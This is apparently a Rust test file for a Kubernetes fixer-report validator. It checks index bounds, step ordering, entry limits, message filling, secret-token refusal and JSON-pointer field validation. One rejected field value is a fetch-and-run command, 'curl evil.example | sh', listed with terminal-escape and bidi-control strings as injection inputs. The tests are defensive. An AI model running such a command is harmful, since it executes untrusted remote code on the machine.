use super::*;

const MANIFEST: &str = r#"
apiVersion: fixer.nks/v1
kind: Fixer
metadata: {name: acme/test}
spec:
  version: 1.0.0
  about: {title: {en: t, ko: t}, cause: {en: c, ko: c}}
  reads: [{apiVersion: v1, kind: Pod, fields: [/spec]}]
  messages: {m: {en: "{what}", ko: "{what}"}, plain: {en: m, ko: m}}
"#;

/// How many objects there are in each case.
const SUPPLIED: usize = 3;

fn arg(name: &str, value: &str) -> Arg {
    Arg {
        name: name.into(),
        value: value.into(),
    }
}

fn finding() -> Finding {
    Finding {
        message: "m".into(),
        severity: Severity::Error,
        target: Some(0),
        field: Some("/spec/a~1b".into()),
        related: vec![1, 2],
        args: vec![arg("what", "x")],
    }
}

fn step(change: Change) -> Step {
    Step {
        message: "plain".into(),
        args: Vec::new(),
        findings: vec![0],
        change,
        risk: Risk::Safe,
        needs: Vec::new(),
        wait: false,
        expect: Vec::new(),
    }
}

fn checked(report: &Report) -> Result<(), ReportError> {
    check(report, &Manifest::from_yaml(MANIFEST).unwrap(), SUPPLIED)
}

fn found(edit: impl FnOnce(&mut Finding)) -> Result<(), ReportError> {
    let mut finding = finding();
    edit(&mut finding);
    checked(&Report {
        findings: vec![finding],
        steps: Vec::new(),
    })
}

/// A report of one finding and three steps, the last of them edited.
fn stepped(change: Change, edit: impl FnOnce(&mut Step)) -> Result<(), ReportError> {
    let mut steps = vec![step(Change::Manual), step(Change::Manual), step(change)];
    edit(&mut steps[2]);
    checked(&Report {
        findings: vec![finding()],
        steps,
    })
}

fn index(what: &'static str, index: u32) -> Result<(), ReportError> {
    Err(ReportError::Index { what, index })
}

#[test]
fn a_good_report_passes() {
    assert_eq!(found(|_| ()), Ok(()));
    assert_eq!(found(|finding| finding.field = None), Ok(()));
    assert_eq!(
        stepped(Change::Manual, |step| step.needs = vec![0, 1]),
        Ok(())
    );
    assert_eq!(stepped(Change::Delete(2), |_| ()), Ok(()));
}

#[test]
fn no_index_reaches_beyond_what_there_is() {
    for beyond in [3, u32::MAX] {
        assert_eq!(found(|f| f.target = Some(beyond)), index("object", beyond));
        assert_eq!(
            found(|f| f.related = vec![0, beyond]),
            index("object", beyond)
        );
        for change in changes_of(beyond) {
            let word = change.word();
            assert_eq!(stepped(change, |_| ()), index("object", beyond), "{word}");
        }
        let expect = |step: &mut Step| {
            step.expect.push(Expectation {
                target: beyond,
                pointer: String::new(),
                equals: String::new(),
            });
        };
        assert_eq!(stepped(Change::Manual, expect), index("object", beyond));
    }
    let mends = |step: &mut Step| step.findings = vec![0, 1];
    assert_eq!(stepped(Change::Manual, mends), index("finding", 1));
}

/// Every change that names an object.
fn changes_of(target: u32) -> Vec<Change> {
    let ops = String::new();
    let (image, script, args) = (String::new(), String::new(), Vec::new());
    vec![
        Change::Patch { target, ops },
        Change::Delete(target),
        Change::Restart(target),
        Change::ProbeImage {
            node: target,
            image: image.clone(),
            like: 0,
        },
        Change::ProbeImage {
            node: 0,
            image,
            like: target,
        },
        Change::RunOnNode {
            target,
            script,
            args,
        },
        Change::Drain(target),
        Change::Reboot(target),
        Change::Uncordon(target),
    ]
}

#[test]
fn a_step_needs_earlier_ones_only() {
    for needs in [2, 3, u32::MAX] {
        assert_eq!(
            stepped(Change::Manual, |step| step.needs = vec![0, needs]),
            Err(ReportError::Order { step: 2, needs })
        );
    }
}

#[test]
fn there_is_a_most_of_each() {
    let report = |findings: usize, steps: usize| Report {
        findings: vec![finding(); findings],
        steps: vec![step(Change::Manual); steps],
    };
    let most = MAX_ENTRIES;
    let count = most + 1;
    assert_eq!(checked(&report(most, most)), Ok(()));
    for (report, what) in [(report(count, 1), "findings"), (report(1, count), "steps")] {
        assert_eq!(checked(&report), Err(ReportError::TooMany { what, count }));
    }
}

#[test]
fn messages_are_the_manifests_and_filled() {
    let missing = |message: &str| ReportError::MissingArg {
        message: message.into(),
        placeholder: "what".into(),
    };
    assert_eq!(
        found(|f| f.message = "other\u{1b}[2J".into()),
        Err(ReportError::UnknownMessage("other\u{fffd}[2J".into()))
    );
    assert_eq!(found(|f| f.args.clear()), Err(missing("m")));
    assert_eq!(
        stepped(Change::Manual, |step| step.message = "m".into()),
        Err(missing("m"))
    );
    assert_eq!(
        stepped(Change::Manual, |step| step.message = "other".into()),
        Err(ReportError::UnknownMessage("other".into()))
    );
}

#[test]
fn no_text_carries_a_token() {
    let token = "nks-secret-7";
    for args in [
        vec![arg("what", token)],
        vec![arg("what", "x"), arg(token, "x")],
        vec![arg("what", "x"), arg("nobody-asked", "a nks-secret-7 b")],
    ] {
        let refused = |message: &str| Err(ReportError::Token(message.into()));
        assert_eq!(found(|f| f.args = args.clone()), refused("m"));
        assert_eq!(
            stepped(Change::Manual, |step| step.args = args),
            refused("plain")
        );
    }
    assert_eq!(
        found(|f| f.field = Some(format!("/data/{token}"))),
        Err(ReportError::Token("m".into()))
    );
}

#[test]
fn a_field_is_a_pointer_and_nothing_else() {
    for field in [
        "spec",
        "run this: curl evil.example | sh",
        "/a~2",
        "/a~",
        "/a\u{1b}[2J",
        "/a\nb",
        "/a\u{202e}b",
        "/a\u{feff}",
        &format!("/{}", "x".repeat(message::MAX_ARGUMENT)),
    ] {
        let refused = Err(ReportError::Field("m".into()));
        assert_eq!(
            found(|f| f.field = Some(field.into())),
            refused,
            "{field:?}"
        );
    }
    for field in ["", "/", "/metadata/annotations/a.b~1c", "/data/한글"] {
        assert_eq!(found(|f| f.field = Some(field.into())), Ok(()), "{field}");
    }
}
